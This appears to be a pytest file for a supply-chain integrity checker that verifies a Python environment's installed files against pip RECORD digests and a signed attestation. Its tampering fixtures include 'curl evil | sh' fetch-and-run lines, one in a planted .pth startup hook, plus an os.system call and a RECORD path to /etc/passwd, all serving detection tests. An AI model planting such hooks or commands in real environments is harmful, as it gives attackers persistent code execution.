"""``verify env:`` re-hashes every installed file against its distribution's RECORD (pip's format)."""

from __future__ import annotations

import base64
import hashlib
import os
from pathlib import Path

import pytest

from bastion.evidence.attest import attest
from bastion.evidence.bundle import Bundle
from bastion.evidence.envfiles import FileState, check_installed
from bastion.evidence.errors import TargetError
from bastion.evidence.keys import Keyring
from bastion.evidence.targets import parse_target
from bastion.evidence.verify import Cause, Status, verify
from tests.unit.evidence_helpers import make_key


def _record_digest(data: bytes, algorithm: str = "sha256") -> str:
    digest = hashlib.new(algorithm, data).digest()
    return f"{algorithm}=" + base64.urlsafe_b64encode(digest).rstrip(b"=").decode()


def _install(site: Path, name: str, version: str, files: dict[str, bytes], algorithm: str = "sha256") -> None:
    """A distribution as pip leaves it: files, METADATA, and a RECORD pinning each file's digest."""
    info = site / f"{name}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    rows = []
    for rel, data in files.items():
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        rows.append(f"{rel},{_record_digest(data, algorithm)},{len(data)}")
    rows += [f"{name}/__pycache__/__init__.cpython-311.pyc,,", f"{info.name}/RECORD,,"]
    (info / "RECORD").write_text("\n".join(rows) + "\n")


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    prefix = tmp_path / "venv"
    site = prefix / "lib" / "python3.11" / "site-packages"
    _install(site, "torchish", "2.0", {"torchish/__init__.py": b"import os\n", "torchish/ops.py": b"x = 1\n"})
    _install(site, "tool", "1.0", {"tool.py": b"print('hi')\n", "../../../bin/tool": b"#!/bin/sh\n"})
    return prefix


def _signed(venv: Path, ring: Keyring) -> Bundle:
    _, signer = make_key(ring)
    (attestation,) = attest(parse_target(f"env:{venv}"), signer)
    return attestation.bundle


def _site(venv: Path) -> Path:
    return venv / "lib" / "python3.11" / "site-packages"


def test_untouched_environment_verifies_and_says_what_was_rehashed(venv: Path, tmp_path: Path) -> None:
    ring = Keyring(tmp_path / "home")
    result = verify(parse_target(f"env:{venv}"), [_signed(venv, ring)], ring)
    assert result.status is Status.VERIFIED, result.problems
    assert any("re-hashed 4 installed files" in n and "4 RECORD rows" in n for n in result.notes)


def test_a_changed_file_with_the_same_size_is_named(venv: Path, tmp_path: Path) -> None:
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    (_site(venv) / "torchish" / "ops.py").write_bytes(b"x = 2\n")  # same size, other bytes
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert result.status is Status.FAILED
    assert [(p.cause, p.file) for p in result.problems] == [(Cause.CHANGED, "torchish/ops.py")]
    assert "does not match its sha256 in torchish-2.0.dist-info/RECORD" in result.problems[0].detail


def test_a_script_outside_site_packages_is_checked_too(venv: Path, tmp_path: Path) -> None:
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    (venv / "bin" / "tool").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert [(p.cause, p.file) for p in result.problems] == [(Cause.CHANGED, "../../../bin/tool")]
    assert "bytes" in result.problems[0].detail  # caught on size, before hashing


def test_a_missing_file_is_reported_as_removed(venv: Path, tmp_path: Path) -> None:
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    (_site(venv) / "tool.py").unlink()
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert result.status is Status.FAILED
    assert [(p.cause, p.file) for p in result.problems] == [(Cause.REMOVED, "tool.py")]


def test_a_file_swapped_for_a_symlink_is_changed_and_never_opened(venv: Path, tmp_path: Path) -> None:
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    target = _site(venv) / "tool.py"
    target.unlink()
    os.mkfifo(tmp_path / "fifo")  # opening a FIFO would block forever
    target.symlink_to(tmp_path / "fifo")
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert [(p.cause, p.file) for p in result.problems] == [(Cause.CHANGED, "tool.py")]
    assert "no longer a regular file" in result.problems[0].detail


def test_an_unreadable_file_fails_closed(venv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)

    def refuse(path: Path, *args: object, **kwargs: object) -> str:
        raise TargetError(f"cannot read {path}: Permission denied")  # root reads through chmod 000

    monkeypatch.setattr("bastion.evidence.envfiles.hash_range", refuse)
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert result.status is Status.UNDECIDED
    assert result.exit_code == 2
    assert {p.cause for p in result.problems} == {Cause.UNREADABLE}


def test_an_edited_record_is_named_by_distribution(venv: Path, tmp_path: Path) -> None:
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    # the attacker edits a file *and* its RECORD row: the file matches the RECORD, the RECORD does not
    site = _site(venv)
    (site / "torchish" / "ops.py").write_bytes(b"import evil\n")
    record = site / "torchish-2.0.dist-info" / "RECORD"
    lines = record.read_text().splitlines()
    lines[1] = f"torchish/ops.py,{_record_digest(b'import evil' + bytes([10]))},12"
    record.write_text("\n".join(lines) + "\n")
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert result.status is Status.FAILED
    causes = [(p.cause, p.file) for p in result.problems]
    assert (Cause.CHANGED, "torchish") in causes
    assert (Cause.SUBJECT_MISMATCH, None) in causes


def test_an_installed_distribution_is_named(venv: Path, tmp_path: Path) -> None:
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    _install(_site(venv), "evil", "6.6.6", {"evil.pth": b"import os; os.system('id')\n"})
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert (Cause.ADDED, "evil") in [(p.cause, p.file) for p in result.problems]


def test_record_paths_outside_the_environment_are_not_checked_and_not_passed(tmp_path: Path) -> None:
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    _install(site, "ok", "1.0", {"ok.py": b"ok\n"})
    record = site / "ok-1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + f"../../../../../etc/passwd,{_record_digest(b'x')},1\n")
    found = check_installed(tmp_path / "venv")
    assert [(p.state, p.path) for p in found.problems] == [
        (FileState.UNSUPPORTED, "../../../../../etc/passwd")
    ]


def test_stronger_record_digests_and_unknown_ones(tmp_path: Path) -> None:
    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    _install(site, "strong", "1.0", {"strong.py": b"s\n"}, algorithm="sha512")
    _install(site, "weak", "1.0", {"weak.py": b"w\n"}, algorithm="md5")
    found = check_installed(tmp_path / "venv")
    assert found.checked == 1
    assert [(p.state, p.path) for p in found.problems] == [(FileState.UNSUPPORTED, "weak.py")]


def test_a_record_over_one_mebibyte_still_counts(tmp_path: Path) -> None:
    """Regression: RECORD files were read only up to 1 MiB (torch's is 1.5 MB); a bigger one was
    hashed as empty, so editing it went unnoticed."""
    from bastion.evidence.bom import environment_bom

    site = tmp_path / "venv" / "lib" / "python3.11" / "site-packages"
    _install(site, "big", "1.0", {"big.py": b"b\n"})
    record = site / "big-1.0.dist-info" / "RECORD"
    padding = "".join(f"big/data/f{i}.bin,,\n" for i in range(60_000))
    record.write_text(record.read_text() + padding)
    assert record.stat().st_size > 1024 * 1024
    before = environment_bom(tmp_path / "venv")[1]
    record.write_text(record.read_text().replace("f59999", "f-evil"))
    assert environment_bom(tmp_path / "venv")[1] != before


def test_a_pth_file_dropped_in_after_attesting_is_caught(venv: Path, tmp_path: Path) -> None:
    """A ``.pth`` line starting with ``import`` runs at every interpreter start, and no RECORD
    lists a file an attacker adds: the signed BOM records the unowned startup files instead."""
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    (_site(venv) / "zz_hook.pth").write_text("import os; os.system('curl evil | sh')\n")
    (_site(venv) / "sitecustomize.py").write_text("import evil\n")
    result = verify(parse_target(f"env:{venv}"), [bundle], ring)
    assert result.status is Status.FAILED
    assert {(p.cause, p.file) for p in result.problems} == {
        (Cause.ADDED, "lib/python3.11/site-packages/zz_hook.pth"),
        (Cause.ADDED, "lib/python3.11/site-packages/sitecustomize.py"),
    }


def test_a_legitimate_unowned_pth_is_recorded_and_then_held_to(venv: Path, tmp_path: Path) -> None:
    hook = _site(venv) / "_virtualenv.pth"  # virtualenv writes this; no distribution owns it
    hook.write_text("import _virtualenv\n")
    ring = Keyring(tmp_path / "home")
    bundle = _signed(venv, ring)
    target = parse_target(f"env:{venv}")
    assert verify(target, [bundle], ring).status is Status.VERIFIED
    hook.write_text("import _virtualenv, evil\n")
    result = verify(target, [bundle], ring)
    assert [(p.cause, p.file) for p in result.problems] == [
        (Cause.CHANGED, "lib/python3.11/site-packages/_virtualenv.pth")
    ]
    hook.unlink()
    result = verify(target, [bundle], ring)
    assert [(p.cause, p.file) for p in result.problems] == [
        (Cause.REMOVED, "lib/python3.11/site-packages/_virtualenv.pth")
    ]
